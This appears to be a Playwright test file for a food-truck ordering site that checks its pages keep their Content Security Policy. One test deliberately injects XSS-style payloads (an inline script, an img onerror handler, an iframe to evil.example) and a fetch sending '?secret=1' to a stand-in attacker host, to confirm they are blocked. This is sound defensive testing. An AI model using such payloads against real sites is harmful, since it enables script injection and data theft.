import type { Page } from "@playwright/test";
import { watchConsole } from "../../harness/browser/console.ts";
import { noisePng } from "../../harness/browser/images.ts";
import { openAs } from "../../harness/product/accounts.ts";
import {
  answerBank,
  CARDS,
  continueToPayment,
  expectConfirmed,
  payByCard,
} from "../../harness/screens/checkout.ts";
import { addToCart, goToCheckout, notifications } from "../../harness/screens/menu.ts";
import { createStaffData, type StaffData } from "../../harness/screens/staff-screens.ts";
import { expect, test } from "../../harness/test.ts";

test("no page of a purchase with 3-D Secure breaks its content policy", async ({
  page,
  truck,
  phone,
}) => {
  const complaints = watchConsole(page);
  await page.goto("/");
  await page.getByRole("button", { name: "Show map" }).click();
  await expect(page.getByRole("region", { name: "Map of the trucks" })).toBeVisible();
  await page.getByRole("button", { name: "Hide map" }).click();
  await page.getByRole("link", { name: truck.name }).click();
  await addToCart(page, "Garden Burrito", {
    options: ["Carnitas", "Guacamole"],
    quantity: 2,
    instructions: "Cut in half",
  });
  await page.reload();
  await goToCheckout(page);
  await continueToPayment(page, { phone, email: "rosa@example.com" });
  await payByCard(page, CARDS.asksTheBank);
  await answerBank(page, "Complete");
  await expectConfirmed(page);
  await page.getByRole("link", { name: "Follow your order" }).click();
  await expect(page.getByText("Order received")).toBeVisible();
  await page.reload();
  await expect(page.getByText("Order received")).toBeVisible();
  expect(complaints).toEqual([]);
});

test("no dialog of the staff area and no upload breaks its content policy", async ({
  page,
  truck,
  superadmin,
}) => {
  const data = await createStaffData(truck);
  const complaints = watchConsole(page);
  await openAs(page, superadmin, truck);
  await openRefund(page, data);
  await openMenuDialogs(page, data);
  await uploadImage(page, data);
  await page.goto("/admin/users");
  await page.getByRole("button", { name: "Add staff" }).click();
  await expect(page.getByRole("dialog", { name: "Add staff" })).toBeVisible();
  expect(complaints).toEqual([]);
});

test("the API's and the developers' pages keep their policy, and what breaks one is stopped and seen", async ({
  page,
  policyViolations,
}) => {
  const complaints = watchConsole(page);
  await page.goto("/api/docs");
  await page.getByRole("button", { name: /Get public settings/ }).click();
  await page.getByRole("button", { name: "Try it out" }).click();
  await page.getByRole("button", { name: "Execute" }).click();
  await expect(page.getByText("publishableKey").first()).toBeVisible();
  for (const path of ["/api-test", "/menu-test", "/admin/login"]) {
    await page.goto(path);
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  }
  expect(policyViolations).toEqual([]);
  expect(complaints).toEqual([]);

  await page.goto("/");
  await page.evaluate(() => {
    const script = document.createElement("script");
    script.textContent = "window.hacked = 1";
    document.body.append(script);
    document.body.insertAdjacentHTML("beforeend", '<img src="/x" onerror="window.hacked = 1">');
    document.body.insertAdjacentHTML("beforeend", '<p style="color: red">red</p>');
    document.body.insertAdjacentHTML("beforeend", "<style>p { color: red }</style>");
    document.body.insertAdjacentHTML("beforeend", '<iframe src="https://evil.example"></iframe>');
  });
  expect(await page.evaluate(sendElsewhere)).toBe("refused");
  await expect
    .poll(() => policyViolations.map(({ rule }) => rule).sort())
    .toEqual([
      "connect-src",
      "frame-src",
      "script-src-attr",
      "script-src-elem",
      "style-src-attr",
      "style-src-elem",
    ]);
  policyViolations.length = 0; // expected here, a failure in every other journey
  expect(await page.evaluate(() => Reflect.get(window, "hacked"))).toBeUndefined();
  expect(complaints).not.toEqual([]);
});

/** Whether the page can send data to another site. */
async function sendElsewhere(): Promise<string> {
  // biome-ignore lint/style/noRestrictedGlobals: it runs in the page, which must not be allowed to.
  return fetch("https://evil.example/?secret=1").then(
    () => "sent",
    () => "refused",
  );
}

async function openRefund(page: Page, { order }: StaffData): Promise<void> {
  await page.goto(`/admin/orders/${order._id}`);
  await page.getByRole("button", { name: "Refund", exact: true }).click();
  await expect(page.getByRole("dialog", { name: "Refund" })).toBeVisible();
}

async function openMenuDialogs(page: Page, { item }: StaffData): Promise<void> {
  await page.goto("/admin/menu");
  await page.getByRole("button", { name: `Delete ${item.name}` }).click();
  await expect(page.getByRole("alertdialog")).toBeVisible();
  await page.keyboard.press("Escape");
  await page.getByRole("button", { name: "Import CSV" }).click();
  await expect(page.getByRole("dialog", { name: "Import menu" })).toBeVisible();
}

async function uploadImage(page: Page, { item }: StaffData): Promise<void> {
  await page.goto(`/admin/menu/edit/${item._id}`);
  await page.getByLabel("Choose a file for image").setInputFiles(noisePng(900, 800));
  await expect(page.getByLabel("Image: address")).toHaveValue(/-900\.webp$/);
  await page.getByRole("button", { name: "Save" }).click();
  await expect(notifications(page)).toContainText(`${item.name} saved`);
}
